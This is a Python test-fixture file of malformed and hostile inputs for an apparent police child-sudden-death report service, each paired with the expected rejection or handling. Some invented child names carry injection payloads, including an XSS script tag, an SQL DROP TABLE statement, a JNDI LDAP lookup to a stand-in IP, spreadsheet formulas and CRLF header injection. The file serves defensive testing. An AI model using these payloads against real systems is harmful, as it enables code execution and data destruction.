"""What a broken or hostile system may send as a police report, by name, each with what has to become of it by every way in.

Everything is invented.
"""

import json
from collections.abc import Callable, Mapping
from typing import Any

from tests.hostile_sample import Hostile, Invented, made

JSON, CSV = "application/json", "text/csv"
FORCE = "E23000038"
_HEADINGS = (
    "Sudden Death No,Revision,Record Status,Reported Date Time,Involvement,Nominal No,Surname,Forenames,DOB,"
    "Force Code,Life Pronounced Extinct"
)


def report(serial: int, **parts: Any) -> dict[str, Any]:
    """A report of one child's sudden death; ``parts`` are members of the report, ``person`` are the child's."""
    who = Invented(serial)
    child = {
        "person_id": "P1",
        "role": "deceased",
        "family_name": who.surname,
        "given_names": who.given,
        "date_of_birth": who.born,
        "nhs_number": who.number,
        "address": {"lines": [f"{serial} Reed Lane"], "postcode": who.postcode, "use": "home"},
        "life_extinct_at": "2026-03-09T04:10:00Z",
    }
    whole = {
        "schema": "police-sudden-death/1",
        "force": FORCE,
        "report_id": f"54-{serial}",
        "version": 1,
        "status": "current",
        "reported_at": "2026-03-09T08:00:00Z",
        "event": {"event_id": f"E{serial}", "type": "fire", "at": "2026-03-09T03:00:00Z"},
        "persons": [child | parts.pop("person", {})],
    }
    return whole | parts


def _json(**parts: Any) -> Callable[[int], bytes]:
    return lambda serial: json.dumps(report(serial, **parts)).encode()


def _text(old: str, new: str) -> Callable[[int], bytes]:
    """A good report with a piece of its text replaced."""
    return lambda serial: json.dumps(report(serial)).replace(old, new, 1).encode()


def _child(**parts: Any) -> Callable[[int], bytes]:
    return _json(person=parts)


def _people(many: int) -> Callable[[int], bytes]:
    def body(serial: int) -> bytes:
        whole = report(serial)
        others = [{"person_id": f"Q{each}", "role": "witness", "family_name": "A" * 40} for each in range(many)]
        return json.dumps(whole | {"persons": whole["persons"] + others}).encode()

    return body


def _csv(*rows: str, headings: str = _HEADINGS, charset: str = "utf-8", end: str = "\r\n") -> Callable[[int], bytes]:
    def body(serial: int) -> bytes:
        who, said = Invented(serial), end.join([headings, *rows])
        for place, value in (
            ("{serial}", str(serial)),
            ("{name}", who.surname),
            ("{given}", who.given),
            ("{born}", who.born),
        ):
            said = said.replace(place, value)
        return said.encode(charset)

    return body


def _row(name: str = "{name}", born: str = "{born}", role: str = "Deceased", person: str = "N1") -> str:
    return f"SD/{{serial}},1,Live,09/03/2026 08:00,{role},{person},{name},{{given}},{born},{FORCE},09/03/2026 04:10"


def _taken(body: bytes | Callable[[int], bytes], form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "taken")


def _passed(body: bytes | Callable[[int], bytes], form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "passed-over")


def _broken(body: bytes | Callable[[int], bytes], form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "refused", 400)


def _wrong(body: bytes | Callable[[int], bytes], form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "refused", 422)


_SYNTAX: Mapping[str, Hostile] = {
    "nothing": _broken(b""),
    "white space": _broken(b" \r\n\t"),
    "words": _broken(b"a child has died, ring us"),
    "every byte there is": _broken(bytes(range(256)) * 4),
    "null": _broken(b"null"),
    "a list": _wrong(b"[]"),
    "half a report": _broken(lambda serial: json.dumps(report(serial)).encode()[:-30]),
    "a comma too many": _broken(_text('"version": 1,', '"version": 1,,')),
    "a member twice": _broken(_text('"version": 1,', '"version": 1, "version": 2,')),
    "no number": _broken(_text('"version": 1', '"version": NaN')),
    "a number without end": _broken(_text('"version": 1', '"version": ' + "1" * 5000)),
    "half a character": _broken(_text("quill", "\\ud800")),
    "a zero in a name": _broken(_text("quill", "\\u0000")),
    "bytes that are no text": _broken(
        lambda serial: json.dumps(report(serial)).encode().replace(b"quill", b"\xff\xfe")
    ),
    "brackets without end": _broken(b'{"persons": ' + b"[" * 100_000),
    "objects without end": _broken(b'{"a":' * 5000 + b"1" + b"}" * 5000),
    "compressed": _broken(b"\x1f\x8b\x08\x00\x00\x00\x00\x00"),
    "more than a report may hold": Hostile(_json(padding="x" * 8_500_000), JSON, "refused", 413),
}

_CONTENT: Mapping[str, Hostile] = {
    "a scanned form": Hostile(made(b"%PDF-1.4"), "application/pdf", "refused", 415),
    "XML": Hostile(made(b"<report/>"), "application/xml", "refused", 415),
    "no type": Hostile(_json(), "", "refused", 415, frozenset({"http"})),
    "another force's report": Hostile(_json(force="E23000029"), JSON, "refused", 403),
    "no force": _wrong(_json(force=None)),
    "a force that is a routing key": Hostile(_json(force="E23000038.#"), JSON, "refused", 422),
    "another schema": _wrong(_json(schema="police-sudden-death/9")),
    "no number of its own": _wrong(_json(report_id=None)),
    "a version that is a word": _wrong(_json(version="first")),
    "a version below nothing": _wrong(_json(version=-1)),
    "persons that are one": _wrong(_json(persons={"person_id": "P1", "role": "deceased"})),
    "persons that are numbers": _wrong(_json(persons=[1, 2])),
    "a role that nobody knows": _wrong(_child(role="gone")),
    "one number for two children": _wrong(
        lambda serial: json.dumps(
            report(serial) | {"persons": [*report(serial)["persons"], *report(serial + 50_000)["persons"]]}
        ).encode()
    ),
    "a withdrawal of nobody": _wrong(_json(status="withdrawn", persons=[])),
    "nobody": _passed(_json(persons=[])),
    "an adult": _passed(_child(date_of_birth="1950-01-01")),
    "somebody who lives": _passed(_child(role="injured", life_extinct_at=None, date_of_birth="1950-01-01")),
    "a member that there isn't": _taken(_json(colour="red")),
    "a death to come": _taken(_child(life_extinct_at="2126-03-09T04:10:00Z")),
    "a day that is none": _taken(_child(life_extinct_at="2026-02-30")),
    "a year of two digits": _taken(_child(date_of_birth="09/05/14")),
    "a number that fails its check": _taken(_child(nhs_number="9991000004")),
    "a postcode that is none": _taken(_child(address={"postcode": "'; --", "use": "home"})),
    "somebody who is their own mother": _taken(_json(relationships=[{"from": "P1", "to": "P1", "type": "mother"}])),
    "relatives of nobody": _taken(_json(relationships=[{"from": "P8", "to": "P9", "type": "mother"}] * 500)),
    "a name that is a program": _taken(_child(family_name="<script>alert(1)</script>")),
    "a name that is a statement": _taken(_child(family_name="'); DROP TABLE notice;--")),
    "a name that is a lookup": _taken(_child(family_name="${jndi:ldap://192.0.2.1/a}")),
    "a name that is a formula": _taken(_child(family_name="=HYPERLINK(1)")),
    "a name that breaks lines": _taken(_child(family_name="A\r\nX-Injected: 1\r\n\r\nB")),
    "a name that turns the text around": _taken(_child(family_name="\u202eneRW\u2066")),
    "more people than a report may name": _wrong(_people(2000)),
}

_EXPORTS: Mapping[str, Hostile] = {
    "an export": _taken(_csv(_row()), CSV),
    "an export of headings alone": _wrong(_csv(), CSV),
    "an export of other headings": _broken(_csv("1,2", headings="a,b"), CSV),
    "an export in sixteen bits": _taken(_csv(_row(), charset="utf-16"), CSV),
    "an export of Windows": _taken(_csv(_row("S\xd6DER {serial}"), charset="cp1252"), CSV),
    "an export with a zero in it": _broken(_csv(_row("QU\0ILL")), CSV),
    "a row that is short": _wrong(_csv("SD/{serial},1"), CSV),
    "a row that is long": _wrong(_csv(_row() + ",x,y,z"), CSV),
    "a quote without end": _wrong(_csv(_row('"{name}')), CSV),
    "a cell of many letters": _wrong(_csv(_row("A" * 200_000)), CSV),
    "a cell that is a formula": _taken(_csv(_row("=HYPERLINK(1) {serial}")), CSV),
    "a cell that breaks lines": _taken(_csv(_row('"A\r\nX-Injected: 1 {serial}"')), CSV),
    "one number for two people": _wrong(_csv(_row(), _row("OTHER", "01/01/2015")), CSV),
    "an involvement that nobody knows": _wrong(_csv(_row(role="Person of interest")), CSV),
    "a birthday of two digits": _taken(_csv(_row(born="09/05/14")), CSV),
    "an adult in an export": _passed(_csv(_row(born="01/01/1950")), CSV),
    "many rows": _wrong(_csv(*[_row(person=f"N{each}", role="Witness") for each in range(60_000)]), CSV),
    "line ends of a tape": _taken(_csv(_row(), end="\r"), CSV),
}  # fmt: skip

HOSTILE: Mapping[str, Hostile] = {**_SYNTAX, **_CONTENT, **_EXPORTS}
